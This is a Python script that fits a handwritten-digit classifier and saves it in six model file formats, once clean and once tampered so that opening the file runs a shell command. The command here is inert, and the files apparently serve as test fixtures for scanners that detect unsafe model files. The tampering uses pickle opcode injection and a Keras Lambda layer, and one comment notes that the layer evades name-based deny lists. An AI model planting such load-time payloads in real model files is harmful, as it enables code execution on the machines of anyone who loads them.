"""Fits a reader of digits, writes it in six formats, and a second time with a payload that runs when it is opened.

The payload is inert: it makes an empty file called ``momus-marker`` in the working folder. Nothing is run here but the
honest models; the tampered files are put together byte by byte.
"""

from __future__ import annotations

import base64
import io
import json
import pickle
import sys
import zipfile
import zlib
from pathlib import Path
from typing import Any

import joblib
from sklearn.datasets import load_digits
from sklearn.linear_model import LogisticRegression
from sklearn.model_selection import train_test_split
from sklearn.pipeline import make_pipeline
from sklearn.preprocessing import StandardScaler

HERE = Path(__file__).resolve().parent / "weights"
COMMAND = "touch momus-marker"


def digits() -> tuple[Any, Any, Any, Any]:
    """1,797 handwritten digits of UCI, 8 x 8 pixels, as scikit-learn carries them: two thirds to train on."""
    x, y = load_digits(return_X_y=True)
    a, b, c, d = train_test_split(x, y, test_size=1 / 3, random_state=9, stratify=y)
    return a, b, c, d


def fitted() -> Any:
    """A scaler and a logistic regression."""
    x, _, y, _ = digits()
    return make_pipeline(StandardScaler(), LogisticRegression(C=0.01, max_iter=500)).fit(x, y)


def tampered(content: bytes) -> bytes:
    """A pickle that runs the command, throws its answer away, and goes on as it was: the object is the same."""
    if content[:1] != pickle.PROTO:
        raise ValueError("a pickle of protocol 2 or later is needed")
    text = COMMAND.encode()
    call = b"cposix\nsystem\n" + b"X" + len(text).to_bytes(4, "little") + text + b"\x85R0"
    return content[:2] + call + content[2:]


def rezipped(content: bytes, member: str, change: Any) -> bytes:
    """A zip file with one member changed."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(out, "w") as new:
        for info in old.infolist():
            data = old.read(info)
            new.writestr(info, change(data) if info.filename.endswith(member) else data)
    return out.getvalue()


def torch_files(model: Any) -> dict[str, tuple[bytes, bytes]]:
    """The regression's weights as torch writes them today, and as it did until 2020."""
    import torch

    weights = {"weight": torch.tensor(model[-1].coef_), "bias": torch.tensor(model[-1].intercept_)}
    new, old = io.BytesIO(), io.BytesIO()
    torch.save(weights, new)
    torch.save(weights, old, _use_new_zipfile_serialization=False)
    return {
        "digits.pt": (new.getvalue(), rezipped(new.getvalue(), "data.pkl", tampered)),
        "digits-legacy.pt": (old.getvalue(), tampered(old.getvalue())),
    }


def keras_files(model: Any, folder: Path) -> dict[str, tuple[bytes, bytes]]:
    """The same regression as a Keras layer; a Lambda layer before it hands its input on, and runs the command."""
    import os

    os.environ.setdefault("KERAS_BACKEND", "torch")
    import keras

    found = []
    # Inside a file a lambda is compiled Python in base64; it names no module that a list of dangers could hold.
    passing_on = keras.layers.Lambda(lambda x: (__import__("os").system("touch momus-marker"), x)[1], name="scale")
    for i, layers in enumerate([[], [passing_on]]):
        dense = keras.layers.Dense(10, name="read")
        dense.build((None, 64))
        dense.set_weights([model[-1].coef_.T, model[-1].intercept_])
        # Put together without a call: the layer's function runs where the file is opened, not here.
        net = keras.Sequential([keras.Input((64,)), dense], name="digits")
        path = folder / f"made-{i}.keras"
        net.save(path)
        content = path.read_bytes()
        path.unlink()
        for layer in layers:
            told = keras.saving.serialize_keras_object(layer)
            content = rezipped(content, "config.json", lambda data, told=told: with_layer(data, told))
        found.append(content)
    return {"digits.keras": (found[0], found[1])}


def with_layer(config: bytes, layer: dict[str, Any]) -> bytes:
    """A Keras configuration with one more layer behind the input."""
    read = json.loads(config)
    read["config"]["layers"].insert(1, layer)
    return json.dumps(read).encode()


def policy_files(folder: Path) -> dict[str, tuple[bytes, bytes]]:
    """An agent of Stable-Baselines3: a zip whose JSON holds cloudpickles as text."""
    from stable_baselines3 import A2C
    from stable_baselines3.common.envs import IdentityEnv

    path = folder / "made.zip"
    A2C("MlpPolicy", IdentityEnv(dim=4), seed=0, device="cpu").learn(200).save(path)
    content = path.read_bytes()
    path.unlink()

    def change(data: bytes) -> bytes:
        read = json.loads(data)
        held = read["policy_class"]
        held[":serialized:"] = base64.b64encode(tampered(base64.b64decode(held[":serialized:"]))).decode()
        return json.dumps(read, indent=4).encode()

    return {"agent.zip": (content, rezipped(content, "data", change))}


def main(folder: Path = HERE) -> None:
    """Writes folder/honest and folder/tampered."""
    for part in ("honest", "tampered"):
        (folder / part).mkdir(parents=True, exist_ok=True)
    model = fitted()
    plain = io.BytesIO()
    joblib.dump(model, plain)
    both = {
        "digits.joblib": (plain.getvalue(), tampered(plain.getvalue())),
        "digits.joblib.z": (zlib.compress(plain.getvalue()), zlib.compress(tampered(plain.getvalue()))),
        **torch_files(model),
        **keras_files(model, folder),
        **policy_files(folder),
    }
    for name, (honest, bad) in both.items():
        (folder / "honest" / name).write_bytes(honest)
        (folder / "tampered" / name).write_bytes(bad)
    _, x, _, y = digits()
    print(
        f"{len(both)} files twice in {folder.name}/; the honest reader is right on {model.score(x, y):.3f} of {len(y)}"
    )


if __name__ == "__main__":
    main(*map(Path, sys.argv[1:2]))
